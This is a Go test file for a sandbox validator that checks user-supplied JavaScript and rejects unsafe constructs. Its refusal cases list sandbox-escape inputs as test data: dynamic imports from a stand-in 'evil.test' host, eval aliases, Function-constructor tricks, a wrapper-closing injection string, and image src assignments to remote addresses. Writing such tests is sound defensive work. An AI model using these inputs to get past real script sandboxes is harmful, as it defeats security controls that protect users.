package sandbox

import (
	"os"
	"strconv"
	"strings"
	"testing"
)

func TestCheckScriptAccepts(t *testing.T) {
	tests := []struct{ name, src string }{
		{"keep", `rmx.keep("hide promoted", {
  check: async () => (await dom.queryAll(".promoted")).length === 0,
  repair: async () => { for (const h of await dom.queryAll(".promoted")) await dom.hide(h); },
});`},
		{"function timer", `setTimeout(() => rmx.log("hi"), 100); setInterval(function () {}, 1000);`},
		{"create div", `const d = await dom.create("div"); document.createElement("span");`},
		{"local src", `img.src = "/images/a.png"; el.setAttribute("src", "a.png"); dom.setAttr(h, "src", "data:image/png;base64,AA");`},
		{"remote href", `a.href = "https://example.com/";`},
		{"constructor read", `if (x.constructor === Object) { rmx.log(x.constructor.name); }`},
		{"property named eval", `const o = { evaluate: 1 }; o.evaluated = true; rmx.log(o.evaluate);`},
		{"string mentioning eval", `rmx.log("do not eval(this) or import('x')");`},
		{"class", `class A extends B { constructor() { super(); } }`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if probs := CheckScript([]byte(tt.src)); len(probs) > 0 {
				t.Errorf("got %v, want no problems", probs)
			}
		})
	}
}

func TestCheckScriptRefuses(t *testing.T) {
	tests := []struct {
		name      string
		src       string
		msg       string
		line, col int
	}{
		{"syntax error", "let a = 1;\nlet b = ;", "syntax error", 2, 9},
		{"dynamic import", `await import("https://evil.test/x.js")`, "import is not available", 1, 7},
		{"dynamic import computed", "const u = base + 'x';\nimport(u).then(m => m.run());", "import is not available", 2, 1},
		{"static import", `import x from "https://evil.test/x.js";`, "import is not available", 1, 1},
		{"eval of variable", "const s = 'x';\n  eval(s);", "eval is not available", 2, 3},
		{"eval of literal", `eval("1 + 1")`, "eval is not available", 1, 1},
		{"eval alias", `const e = eval; e("x")`, "eval is not available", 1, 11},
		{"global eval", `globalThis.eval("x")`, "eval is not available", 1, 1},
		{"bracket eval", `window["eval"]("x")`, "eval is not available", 1, 1},
		{"Function call", `Function("return this")()`, "Function constructor", 1, 1},
		{"new Function", `new Function("a", "return a")`, "Function constructor", 1, 5},
		{"constructor call", `(function(){}).constructor("return this")()`, "through .constructor", 1, 2},
		{"async constructor", `(async () => {}).constructor("x")`, "through .constructor", 1, 2},
		{"bracket constructor", `f["constructor"]("x")`, "through .constructor", 1, 1},
		{"new constructor", `new (f.constructor)("x")`, "through .constructor", 1, 1},
		{"escapes the wrapper", "}); rmx.log(1); (async function () {", "closes the function", 1, 1},
		{"unexpected end", "if (x) {\n  y();", "syntax error", 2, 7},
		{"optional constructor", `f?.constructor("x")`, "through .constructor", 1, 1},
		{"string timeout", `setTimeout("rmx.log(1)", 10)`, "setTimeout with a string", 1, 1},
		{"string interval template", "setInterval(`x()`, 10)", "setInterval with a string", 1, 1},
		{"window string timeout", `window.setTimeout("x()", 10)`, "setTimeout with a string", 1, 1},
		{"createElement script", `document.createElement("SCRIPT")`, "creates a script element", 1, 1},
		{"dom create script", `await dom.create('script')`, "creates a script element", 1, 7},
		{"dom create spec script", `await dom.create({ tag: 'Script', text: 'x' })`, "creates a script element", 1, 7},
		{"src assign remote", `img.src = "https://evil.test/p.gif?" `, "sets src to a remote address", 1, 1},
		{"src assign scheme-relative", `img["src"] = "//evil.test/p.gif"`, "remote address", 1, 1},
		{"srcset assign", "img.srcset = `http://evil.test/a.png 1x`", "remote address", 1, 1},
		{"setAttribute src remote", `img.setAttribute("src", "https://evil.test/x")`, "remote address", 1, 1},
		{"dom setAttr src remote", `await dom.setAttr(h, "src", "https://evil.test/x")`, "remote address", 1, 7},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			probs := CheckScript([]byte(tt.src))
			for _, p := range probs {
				if strings.Contains(p.Message, tt.msg) {
					if p.Line != tt.line || p.Column != tt.col {
						t.Errorf("got %d:%d, want %d:%d (%v)", p.Line, p.Column, tt.line, tt.col, p)
					}
					if p.File != ScriptFile || p.Fix == "" {
						t.Errorf("got file %q fix %q, want script.js and a fix", p.File, p.Fix)
					}
					return
				}
			}
			t.Errorf("got %v, want a problem containing %q", probs, tt.msg)
		})
	}
}

// CheckScript parses script.js the way the runtime compiles it; if runtime.go changes its
// wrapper, this test says so.
func TestCheckScriptWrapperMatchesRuntime(t *testing.T) {
	b, err := os.ReadFile("runtime.go")
	if err != nil {
		t.Fatalf("reading runtime.go: %v", err)
	}
	if want := strconv.Quote(scriptPrefix) + "+cfg.Script+" + strconv.Quote(scriptSuffix); !strings.Contains(string(b), want) {
		t.Errorf("runtime.go does not compile the script as %s", want)
	}
}

func FuzzCheckScript(f *testing.F) {
	for _, s := range []string{`eval(x)`, `a.constructor("x")`, "})(); (function(){", `import("x")`, "let a = `${b}`"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		for _, p := range CheckScript(b) {
			if p.Line < 1 || p.Column < 1 || p.Message == "" {
				t.Fatalf("problem without position or message: %+v", p)
			}
		}
	})
}
